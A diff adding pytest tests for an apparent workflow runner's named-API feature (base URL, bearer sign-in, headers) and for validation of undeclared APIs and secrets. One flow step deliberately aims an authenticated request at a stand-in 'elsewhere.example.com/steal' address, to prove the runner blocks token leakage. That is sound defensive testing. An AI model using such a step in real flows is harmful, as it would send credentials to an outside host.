@@ -171,6 +171,41 @@ steps:
     assert "Bearer ***" in written
 
 
+def test_a_named_api_gives_its_base_address_headers_and_sign_in_to_each_request(server, run_flow_file, tmp_path):
+    server.answer("/erp/v2/orders", (200, {"Content-Type": "application/json"},
+                                     lambda handler, body: json.dumps({"auth": handler.headers["Authorization"],
+                                                                       "client": handler.headers["X-Client"]}).encode()))
+    flow = _flow(tmp_path, f"""
+name: Named API
+secrets: [ERP_TOKEN]
+apis:
+  erp: {{base_url: "{server.url}/erp/v2", auth: {{bearer: ERP_TOKEN}}, headers: {{X-Client: bastidor}}}}
+steps:
+  - http_request: {{api: erp, url: orders, into: answer}}
+  - assert: "{{{{ answer.json.client == 'bastidor' }}}}"
+  - http_request: {{api: erp, url: "https://elsewhere.example.com/steal"}}
+""")
+    run = run_flow_file(flow, secrets={"ERP_TOKEN": TOKEN})
+    assert [seen["path"] for seen in server.seen] == ["/erp/v2/orders"]
+    assert server.seen[0]["headers"]["authorization"] == f"Bearer {TOKEN}"
+    assert run.result.status == "failed" and "is a path under its base_url" in run.result.error
+    run.store.close()
+    assert TOKEN not in _everything_written(tmp_path)
+
+
+def test_validate_names_an_undeclared_api_and_an_undeclared_secret_of_a_declared_one(tmp_path):
+    flow = tmp_path / "apis.yaml"
+    flow.write_text("name: APIs\nsecrets: [ERP_USER]\napis:\n"
+                    "  erp: {base_url: 'https://erp.example.com/api', auth: {bearer: ERP_TOKEN}}\n"
+                    "steps:\n  - http_request: {api: epr, url: /orders}\n", encoding="utf-8")
+    done = subprocess.run([sys.executable, "runner.py", "validate", str(flow)], cwd=REPO, capture_output=True,
+                          text=True, timeout=60)
+    out = done.stdout + done.stderr
+    assert done.returncode != 0
+    assert f"{flow}:4:65: secret 'ERP_TOKEN' is not declared" in out
+    assert f"{flow}:6:25: api 'epr' is not declared under `apis:` in the flow's header, did you mean 'erp'?" in out
+
+
 def test_basic_auth_encoded_pair_is_masked(server, run_flow_file, tmp_path):
     def echo_auth(handler, body):
         return json.dumps({"you_sent": handler.headers.get("Authorization")}).encode()
